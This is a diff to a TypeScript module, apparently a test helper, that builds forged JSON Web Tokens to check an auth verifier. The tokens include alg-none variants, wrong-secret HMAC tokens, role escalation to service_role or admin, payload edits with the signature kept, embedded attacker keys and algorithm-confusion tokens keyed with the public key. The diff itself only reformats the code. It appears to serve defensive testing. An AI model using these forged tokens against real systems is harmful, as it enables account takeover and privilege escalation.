@@ -54,23 +54,46 @@ export async function forgedTokens(victim: { id: string; email: string }, attack
   const { privateKey: ownKey, publicKey: ownPublic } = await jose.generateKeyPair('ES256', { extractable: true })
   return [
     { name: 'HS256 signed with another secret', token: await hs256(claims, OTHER_SECRET) },
-    { name: 'HS256 role service_role, another secret', token: await hs256({ role: 'service_role', iss: 'supabase-demo', exp: now() + 3600 }, OTHER_SECRET) },
+    {
+      name: 'HS256 role service_role, another secret',
+      token: await hs256({ role: 'service_role', iss: 'supabase-demo', exp: now() + 3600 }, OTHER_SECRET),
+    },
     { name: 'HS256 role postgres, another secret', token: await hs256({ ...claims, role: 'postgres' }, OTHER_SECRET) },
     { name: 'alg none, no signature', token: none('none') },
     { name: 'alg None, no signature', token: none('None') },
     { name: 'alg NONE, no signature', token: none('NONE') },
     { name: 'alg none with a real signature', token: none('none', realSignature) },
-    { name: 'alg none, role service_role', token: `${json64({ alg: 'none', typ: 'JWT' })}.${json64({ role: 'service_role', iss: 'supabase-demo', exp: now() + 3600 })}.` },
-    { name: "attacker's own token with sub = victim (signature kept)", token: editPayload(attackerToken, (c) => ({ ...c, sub: victim.id, email: victim.email })) },
-    { name: "attacker's own token with role service_role (signature kept)", token: editPayload(attackerToken, (c) => ({ ...c, role: 'service_role' })) },
-    { name: "attacker's own token with app_metadata.role admin (signature kept)", token: editPayload(attackerToken, (c) => ({ ...c, app_metadata: { role: 'admin' } })) },
+    {
+      name: 'alg none, role service_role',
+      token: `${json64({ alg: 'none', typ: 'JWT' })}.${json64({ role: 'service_role', iss: 'supabase-demo', exp: now() + 3600 })}.`,
+    },
+    {
+      name: "attacker's own token with sub = victim (signature kept)",
+      token: editPayload(attackerToken, (c) => ({ ...c, sub: victim.id, email: victim.email })),
+    },
+    {
+      name: "attacker's own token with role service_role (signature kept)",
+      token: editPayload(attackerToken, (c) => ({ ...c, role: 'service_role' })),
+    },
+    {
+      name: "attacker's own token with app_metadata.role admin (signature kept)",
+      token: editPayload(attackerToken, (c) => ({ ...c, app_metadata: { role: 'admin' } })),
+    },
     { name: "attacker's own token, signature stripped", token: attackerToken.split('.').slice(0, 2).join('.') + '.' },
-    { name: 'ES256 signed with an attacker key', token: await new jose.SignJWT(claims).setProtectedHeader({ alg: 'ES256', typ: 'JWT' }).sign(ownKey) },
+    {
+      name: 'ES256 signed with an attacker key',
+      token: await new jose.SignJWT(claims).setProtectedHeader({ alg: 'ES256', typ: 'JWT' }).sign(ownKey),
+    },
     {
       name: 'ES256 with the attacker key embedded as a jwk header',
-      token: await new jose.SignJWT(claims).setProtectedHeader({ alg: 'ES256', typ: 'JWT', jwk: await jose.exportJWK(ownPublic) }).sign(ownKey),
+      token: await new jose.SignJWT(claims)
+        .setProtectedHeader({ alg: 'ES256', typ: 'JWT', jwk: await jose.exportJWK(ownPublic) })
+        .sign(ownKey),
     },
-    { name: 'expired, signed with the real secret', token: await hs256({ ...claims, iat: now() - 7200, exp: now() - 3600 }, new TextEncoder().encode(JWT_SECRET)) },
+    {
+      name: 'expired, signed with the real secret',
+      token: await hs256({ ...claims, iat: now() - 7200, exp: now() - 3600 }, new TextEncoder().encode(JWT_SECRET)),
+    },
   ]
 }
 
@@ -78,7 +101,11 @@ export async function forgedTokens(victim: { id: string; email: string }, attack
  * ES256 mode: the public signing key is published (JWKS), so an attacker tries it as an HMAC
  * secret in every encoding a careless verifier might use, with and without the key's `kid`.
  */
-export async function algorithmConfusionTokens(victim: { id: string; email: string }, publicJwk: jose.JWK, signer?: { sign(claims: Record<string, unknown>): Promise<string> }): Promise<Forged[]> {
+export async function algorithmConfusionTokens(
+  victim: { id: string; email: string },
+  publicJwk: jose.JWK,
+  signer?: { sign(claims: Record<string, unknown>): Promise<string> },
+): Promise<Forged[]> {
   const claims = victimClaims(victim)
   const pem = createPublicKey({ key: publicJwk as never, format: 'jwk' }).export({ type: 'spki', format: 'pem' }) as string
   const der = createPublicKey({ key: publicJwk as never, format: 'jwk' }).export({ type: 'spki', format: 'der' })
@@ -94,15 +121,24 @@ export async function algorithmConfusionTokens(victim: { id: string; email: stri
   const tokens: Forged[] = []
   for (const [what, key] of keys) {
     tokens.push({ name: `HS256 keyed with the public key (${what})`, token: await hs256(claims, key) })
-    tokens.push({ name: `HS256 keyed with the public key (${what}), with its kid`, token: await hs256(claims, key, { kid: publicJwk.kid }) })
+    tokens.push({
+      name: `HS256 keyed with the public key (${what}), with its kid`,
+      token: await hs256(claims, key, { kid: publicJwk.kid }),
+    })
   }
   if (signer) {
     // A genuine ES256 token whose header now says HS256, and one with the victim swapped in.
     const genuine = await signer.sign(claims)
     const [, payload, signature] = genuine.split('.')
-    tokens.push({ name: 'a genuine ES256 token relabelled alg HS256', token: `${json64({ alg: 'HS256', typ: 'JWT', kid: publicJwk.kid })}.${payload}.${signature}` })
+    tokens.push({
+      name: 'a genuine ES256 token relabelled alg HS256',
+      token: `${json64({ alg: 'HS256', typ: 'JWT', kid: publicJwk.kid })}.${payload}.${signature}`,
+    })
     tokens.push({ name: 'a genuine ES256 token relabelled alg none', token: `${json64({ alg: 'none', typ: 'JWT' })}.${payload}.` })
-    tokens.push({ name: 'ES256 expired, signed with the real key', token: await signer.sign({ ...claims, iat: now() - 7200, exp: now() - 3600 }) })
+    tokens.push({
+      name: 'ES256 expired, signed with the real key',
+      token: await signer.sign({ ...claims, iat: now() - 7200, exp: now() - 3600 }),
+    })
   }
   return tokens
 }
